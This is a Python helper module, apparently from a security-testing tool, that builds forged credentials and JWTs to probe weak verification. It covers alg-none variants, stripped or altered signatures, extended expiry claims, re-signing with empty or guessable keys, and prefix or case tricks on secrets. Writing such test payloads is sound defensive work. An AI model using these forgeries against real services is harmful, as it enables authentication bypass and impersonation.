"""Credentials made from others, and ids nobody has. The standard library alone: copied into reproducers.

Sources: RFC 7519, RFC 8725 3.1 (alg none).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any


def respelled(identifier: str) -> str:
    """An id in the other letter case."""
    return identifier.upper() if identifier != identifier.upper() else identifier.lower()


def first_half(secret: str) -> str:
    """The beginning of a secret, for targets that compare prefixes."""
    return secret[: max(1, len(secret) // 2)]


def longer(secret: str) -> str:
    """A secret with one character more, for targets that compare beginnings the other way round."""
    return secret + "x"


def last_changed(secret: str) -> str:
    """A secret of the same length with another last character."""
    return secret[:-1] + ("x" if secret[-1] != "x" else "y")


def other_case(secret: str) -> str:
    """A secret in the other letter case."""
    return secret.swapcase()


def nothing(secret: str) -> str:
    """No secret at all: the scheme alone."""
    return secret[:0]


def tampered_payload(jwt: str) -> str:
    """A JWT that claims to live longer, under the old signature."""
    header, claims, signature = jwt.split(".")
    return f"{header}.{_encoded({**_decoded(claims), 'exp': 4102444800, 'stagecheck': 'tampered'})}.{signature}"


def tampered_signature(jwt: str) -> str:
    """A JWT with another signature: the last character but one, never one whose bits base64 throws away."""
    head, signature = jwt.rsplit(".", 1)
    at = max(0, len(signature) - 2)
    return f"{head}.{signature[:at]}{'A' if signature[at] != 'A' else 'B'}{signature[at + 1 :]}"


def first_of_signature(jwt: str) -> str:
    """A JWT whose signature begins otherwise, for targets that compare its end."""
    head, signature = jwt.rsplit(".", 1)
    return f"{head}.{'A' if signature[:1] != 'A' else 'B'}{signature[1:]}"


def signature_in_other_case(jwt: str) -> str:
    """A JWT whose signature is in the other letter case."""
    head, signature = jwt.rsplit(".", 1)
    return f"{head}.{signature.swapcase()}"


def longer_signature(jwt: str) -> str:
    """A JWT with more behind its signature, for targets that compare its beginning."""
    return jwt + "AAAA"


def empty_key(jwt: str) -> str:
    """A JWT signed anew (HS256) with an empty key."""
    return _signed(jwt, b"")


def guessed_key(jwt: str) -> str:
    """A JWT signed anew (HS256) with the key that examples use."""
    return _signed(jwt, b"secret")


def unknown_alg(jwt: str) -> str:
    """A JWT that names an algorithm nobody has, under the old signature."""
    return _unsigned(jwt, "XS256") + "." + jwt.split(".")[2]


def other_alg(jwt: str) -> str:
    """A JWT that names an algorithm with a public key, without a signature."""
    return _unsigned(jwt, "RS256") + "."


def alg_none(jwt: str) -> str:
    """A JWT that says it has no signature, and has none (RFC 8725 3.1)."""
    return _unsigned(jwt, "none") + "."


def alg_none_capitalised(jwt: str) -> str:
    """The same with the algorithm spelled None, for targets that look for one spelling."""
    return _unsigned(jwt, "None") + "."


def alg_none_in_capitals(jwt: str) -> str:
    """The same with the algorithm spelled NONE."""
    return _unsigned(jwt, "NONE") + "."


def alg_none_signed(jwt: str) -> str:
    """A JWT that says it has no signature, and has the old one."""
    return _unsigned(jwt, "none") + "." + jwt.split(".")[2]


def no_signature(jwt: str) -> str:
    """A JWT whose signature was left out."""
    return jwt.rsplit(".", 1)[0] + "."


def half_signature(jwt: str) -> str:
    """A JWT with half of its signature."""
    head, signature = jwt.rsplit(".", 1)
    return f"{head}.{signature[: len(signature) // 2]}"


def _signed(jwt: str, key: bytes) -> str:
    head = _unsigned(jwt, "HS256")
    digest = hmac.new(key, head.encode(), hashlib.sha256).digest()
    return f"{head}.{base64.urlsafe_b64encode(digest).decode().rstrip('=')}"


def _unsigned(jwt: str, alg: str) -> str:
    return f"{_encoded({'alg': alg, 'typ': 'JWT'})}.{jwt.split('.')[1]}"


def _decoded(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def _encoded(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
